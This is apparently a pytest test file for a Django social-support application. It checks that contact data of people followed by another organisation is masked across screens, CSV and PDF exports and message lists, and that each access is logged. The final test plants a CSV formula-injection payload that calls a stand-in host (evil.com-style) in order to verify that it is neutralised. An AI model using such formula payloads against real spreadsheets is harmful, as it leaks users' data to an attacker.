"""Issue 9, point 1: one read path for showing a person's data. A person's name, phone, e-mail and address never
reach a viewer outside their scope (above all, another organisation), on any screen, export, PDF or message
list; every showing is journaled and the person's history lists it."""

import csv
import datetime
import html
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import timezone
from pypdf import PdfReader

from tests.beneficiaries.worlds import make_world
from tests.workshops.factories import RegistrationFactory, SessionFactory
from tremplin.beneficiaries import disclosure
from tremplin.beneficiaries.enums import AccessPurpose
from tremplin.beneficiaries.models import AccessLog
from tremplin.notifications.enums import ContactChannel, NotificationKind, NotificationStatus
from tremplin.notifications.models import Notification
from tremplin.workshops.enums import Attendance

pytestmark = pytest.mark.django_db

# Viewers of La Poste's session at o1, and whether they may see La Poste's person (Anne, followed at o1).
VIEWERS = {
    "mediator": True,  # runs the session, follows people at o1
    "national": True,  # La Poste's national manager: La Poste's people only
    "coordinator_22": True,
    "admin": False,  # no organisation: nobody's contact data
    "coordinator_no_org": False,
}


def _contacts(person, *, phone, email, address):
    person.mobile_phone, person.email, person.postal_address = phone, email, address
    person.save()
    return person


@pytest.fixture
def world():
    world = make_world()
    world.ours = _contacts(world.people.at_o1, phone="0622222222", email="anne@laposte.test", address="1 rue Claire")
    world.theirs = _contacts(world.people.at_p1, phone="0611111111", email="denis@asso.test", address="12 rue Secrète")
    start = timezone.now() - datetime.timedelta(hours=1)  # started: the attendance sheet is open
    world.session = SessionFactory(
        site=world.o1, mediator=world.users.mediator, starts_at=start, ends_at=start + datetime.timedelta(hours=2)
    )
    world.our_registration = RegistrationFactory(session=world.session, beneficiary=world.ours)
    world.their_registration = RegistrationFactory(
        session=world.session, beneficiary=world.theirs, attendance=Attendance.PRESENT
    )
    world.notes = {
        status: Notification.objects.create(
            registration=world.their_registration,
            beneficiary=world.theirs,
            kind=NotificationKind.CONFIRMATION,
            channel=channel,
            status=status,
            recipient=recipient,
            body=f"<p>Bonjour Denis {world.theirs.last_name}, 12 rue Secrète</p>",
            last_error="numéro 0611111111 refusé",
        )
        for status, channel, recipient in (
            (NotificationStatus.TO_CALL, ContactChannel.PHONE_CALL, "0611111111"),
            (NotificationStatus.TO_PRINT, ContactChannel.LETTER, "Denis\n12 rue Secrète"),
            (NotificationStatus.FAILED, ContactChannel.SMS, "0611111111"),
        )
    }
    return world


def _secrets(person) -> list[str]:
    return [person.last_name, person.mobile_phone, person.email, person.postal_address]


def _text(response) -> str:
    if response["Content-Type"].startswith("application/pdf"):
        return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
    return html.unescape(response.content.decode("utf-8-sig"))


def _session_screens(world):
    pk = world.session.pk
    return {
        "session": reverse("workshops:session", args=[pk]),
        "attendance": reverse("workshops:attendance", args=[pk]),
        "attendance_pdf": reverse("workshops:attendance_pdf", args=[pk]),
        "participants_csv": reverse("workshops:participants_csv", args=[pk]),
    }


@pytest.mark.parametrize("viewer", list(VIEWERS))
def test_session_screens_never_show_another_organisations_person(client, world, viewer):
    """Session page, tablet attendance sheet, printed sheet, participants CSV: the association's person is
    listed (seats counted, attendance can be taken) but masked; La Poste's person only for La Poste's staff."""
    client.force_login(getattr(world.users, viewer))
    for name, url in _session_screens(world).items():
        response = client.get(url)
        assert response.status_code == 200, name
        text = _text(response)
        for secret in _secrets(world.theirs):
            assert secret not in text, (name, secret)
        assert disclosure.MASKED_LABEL in text, name
        ours = world.ours
        expected = {ours.last_name, ours.mobile_phone} | ({ours.email} if name == "participants_csv" else set())
        if name == "attendance":
            expected = {ours.last_name}
        for secret in _secrets(ours):
            assert (secret in text) == (VIEWERS[viewer] and secret in expected), (name, secret)


def test_session_page_counts_masked_people_in_its_seats(client, world):
    client.force_login(world.users.national)
    page = client.get(reverse("workshops:session", args=[world.session.pk])).content.decode()
    assert "2 inscrits sur 10" in page
    assert "1 personne suivie par une autre structure" in page
    # No link to a record the viewer may not open.
    assert reverse("beneficiaries:detail", args=[world.theirs.pk]) not in page
    assert reverse("beneficiaries:detail", args=[world.ours.pk]) in page


def test_attendance_of_a_masked_person_can_still_be_taken(client, world):
    client.force_login(world.users.mediator)
    response = client.post(
        reverse("workshops:attendance", args=[world.session.pk]),
        {f"presence-{world.our_registration.pk}": "present", f"presence-{world.their_registration.pk}": "absent"},
    )
    assert response.status_code == 302
    world.their_registration.refresh_from_db()
    assert world.their_registration.attendance == "absent"


def test_participants_csv_masks_each_column_of_another_organisations_person(client, world):
    client.force_login(world.users.mediator)
    response = client.get(reverse("workshops:participants_csv", args=[world.session.pk]))
    rows = {row[0]: row for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")}
    masked = rows[disclosure.MASKED_LABEL]
    assert masked[1:6] == ["", "", "", "", ""]  # first name, pseudonym, mobile, landline, e-mail
    assert rows[world.ours.last_name][3] == "0622222222"


@pytest.mark.parametrize("viewer", list(VIEWERS))
def test_certificate_of_another_organisations_person_is_refused(client, world, viewer):
    client.force_login(getattr(world.users, viewer))
    response = client.get(reverse("workshops:certificate", args=[world.their_registration.pk]))
    assert response.status_code == 403
    assert world.theirs.last_name not in response.content.decode()


@pytest.mark.parametrize("viewer", ["mediator", "national", "coordinator_22", "admin"])
def test_messages_screens_never_show_another_organisations_person(client, world, viewer):
    """Calls to make, letters to print, failed sends: listed (the team knows something waits) but without the
    name, number, address, text or provider error of a person of another organisation."""
    client.force_login(getattr(world.users, viewer))
    for name in ("notifications:to_call", "notifications:letters", "notifications:failures"):
        response = client.get(reverse(name))
        assert response.status_code == 200, name
        text = html.unescape(response.content.decode())
        assert disclosure.MASKED_LABEL in text, name
        for secret in _secrets(world.theirs):
            assert secret not in text, (name, secret)
        assert f'name="notifications" value="{world.notes["to_call"].pk}"' not in text  # no « Appel fait » form
        assert reverse("notifications:letter_pdf", args=[world.notes["to_print"].pk]) not in text


@pytest.mark.parametrize("viewer", ["mediator", "national", "admin"])
def test_letter_pdfs_of_another_organisations_person_are_refused(client, world, viewer):
    client.force_login(getattr(world.users, viewer))
    letter = world.notes["to_print"]
    assert client.get(reverse("notifications:letter_pdf", args=[letter.pk])).status_code == 403
    batch = client.get(reverse("notifications:letters_pdf"), {"notifications": [letter.pk]})
    assert batch.status_code == 302 and not batch["Content-Type"].startswith("application/pdf")


def test_call_done_message_does_not_name_another_organisations_person(client, world):
    client.force_login(world.users.mediator)
    response = client.post(
        reverse("notifications:calls_done"), {"notifications": [world.notes["to_call"].pk]}, follow=True
    )
    assert world.theirs.last_name not in response.content.decode()


def test_person_history_lists_every_screen_that_showed_the_person(client, world):
    """The person's team opens the history: every screen that showed Anne's data is there, with its subject."""
    client.force_login(world.users.national)
    for url in _session_screens(world).values():
        client.get(url)
    client.force_login(world.users.mediator)
    client.get(reverse("workshops:session", args=[world.session.pk]))
    logs = AccessLog.objects.filter(beneficiary=world.ours)
    assert {log.purpose for log in logs} == {
        AccessPurpose.SESSION,
        AccessPurpose.ATTENDANCE,
        AccessPurpose.ATTENDANCE_PDF,
        AccessPurpose.PARTICIPANTS_CSV,
    }
    assert {log.user for log in logs} == {world.users.national, world.users.mediator}
    history = client.get(reverse("beneficiaries:history", args=[world.ours.pk])).content.decode()
    history = html.unescape(history)
    for label in ("Liste des inscrits d'une séance", "Feuille de présence imprimée", "Liste des inscrits (CSV)"):
        assert label in history
    assert f"séance n° {world.session.pk}" in history
    # Nothing was shown of the association's person to La Poste's staff: nothing is journaled for them.
    assert not AccessLog.objects.filter(beneficiary=world.theirs).exists()


def test_people_shown_masks_outside_scope_and_journals_in_one_insert(world, django_assert_num_queries):
    viewer = world.users.mediator
    with django_assert_num_queries(2):  # the scope check, one insert
        shown = disclosure.people_shown(
            viewer, [world.ours, world.theirs, world.ours], purpose=AccessPurpose.SESSION, about="séance n° 1"
        )
    assert shown[world.ours.pk].phone == "0622222222" and not shown[world.ours.pk].is_masked
    masked = shown[world.theirs.pk]
    assert masked.is_masked and masked.name == disclosure.MASKED_LABEL
    assert (masked.phone, masked.email, masked.postal_address, masked.first_name) == ("", "", "", "")
    log = AccessLog.objects.get()
    assert (log.beneficiary, log.user, log.purpose, log.about) == (world.ours, viewer, "seance", "séance n° 1")


def test_people_shown_refuses_an_unknown_purpose(world):
    with pytest.raises(ValueError, match="Objet de consultation inconnu"):
        disclosure.people_shown(world.users.mediator, [world.ours], purpose="curiosite")


def test_person_list_and_search_are_journaled(client, world):
    client.force_login(world.users.mediator)
    client.get(reverse("beneficiaries:list"), {"q": "Anne"})
    log = AccessLog.objects.get(beneficiary=world.ours)
    assert log.purpose == AccessPurpose.LIST and "Anne" not in log.about


def test_notification_admin_shows_no_contact_data(client, world):
    world.users.admin.is_staff = world.users.admin.is_superuser = True
    world.users.admin.save()
    client.force_login(world.users.admin)
    note = world.notes["failed"]
    changelist = reverse("admin:notifications_notification_changelist")
    for url in (changelist, reverse("admin:notifications_notification_change", args=[note.pk])):
        response = client.get(url)
        assert response.status_code == 200
        for secret in _secrets(world.theirs):
            assert secret not in response.content.decode(), (url, secret)


# Template fields that say who a person is or how to reach them. Only the record's own pages (which get the
# person through disclosure.person_for_viewer) and the messages written to the person themself may read them.
PERSONAL = re.compile(
    r"(beneficiary|candidate|other)\.(display_name|first_name|last_name|pseudonym|greeting_name|mobile_phone|"
    r"landline_phone|email|postal_address)|notification\.(recipient|body|last_error)"
)
ALLOWED = {
    "notifications/sms.txt",
    "notifications/email.txt",
    "notifications/email_subject.txt",
    "notifications/letter.html",
}


def test_templates_read_people_only_through_the_read_path():
    root = Path(settings.BASE_DIR) / "tremplin" / "templates"
    offenders = []
    for path in root.rglob("*.*"):
        name = path.relative_to(root).as_posix()
        if name in ALLOWED or name.startswith("beneficiaries/"):
            continue
        text = path.read_text(encoding="utf-8")
        for match in PERSONAL.finditer(text):
            guarded = match.group(0).startswith("notification.") and "person.in_scope" in text
            if not guarded:
                offenders.append(f"{name}: {match.group(0)}")
    assert offenders == []


def test_participants_csv_neutralises_formulas_typed_as_names(client, world):
    world.ours.last_name = '=HYPERLINK("https://evil.example/?"&A1;"Voir")'
    world.ours.save()
    client.force_login(world.users.mediator)
    response = client.get(reverse("workshops:participants_csv", args=[world.session.pk]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert "'" + world.ours.last_name in [row[0] for row in rows]
    assert not any(row[0].startswith("=") for row in rows)
